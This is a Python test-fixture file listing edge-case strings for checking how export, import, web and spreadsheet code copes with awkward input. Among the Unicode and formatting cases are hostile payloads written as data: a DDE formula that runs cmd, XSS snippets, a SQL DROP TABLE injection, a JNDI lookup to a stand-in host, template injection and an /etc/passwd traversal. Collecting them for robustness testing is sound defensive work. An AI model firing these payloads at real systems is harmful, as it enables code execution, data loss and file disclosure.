"""Text that breaks careless programs: each piece once broke some export, import, page or spreadsheet."""

from __future__ import annotations

from typing import Final

NASTY: Final = (
    'O\'Connor "the Quick"',
    "two\nlines",
    "carriage\r\nreturn",
    "back\\slash \\n \\N \\\\",
    "\\.",
    "first\n\\.\nafter what COPY takes for the end",
    "tab\tbetween",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped",
    "<script>alert('x')</script>",
    "<b>bold</b> &amp; <!-- comment -->",
    "]]></textarea><img src=x onerror=alert(1)>",
    "😀 👩\u200d👩\u200d👧\u200d👦 🇸🇬 𝒳",
    "שלום عليكم",
    "\u202eoverridden to the left\u202c",
    "陳大文 พรรณี नीलम",
    "Zoë A\u030angström ﬁ İı",
    "\x01\x02 control \x1f \x7f \x80",
    "NULL",
    "None",
    "'); DROP TABLE accounts_user; --",
    "{{ 7*7 }} {% debug %}",
    "%s %d %(name)s %",
    "${jndi:ldap://log.invalid/a}",
    "comma, semicolon; pipe| \"quoted\",'single'",
    "  spaces around  ",
    "",
    "\ufeffbyte-order mark",
    "zero\u200bwidth and \u2028 line separator",
    '{"json": ["in", "text"]}',
    "../../etc/passwd",
    "😀" * 60,
)

LONG: Final = ("A very long letter, “quoted”, \\ back\\slashed\tand\ntorn. " * 2000)[:100_000]
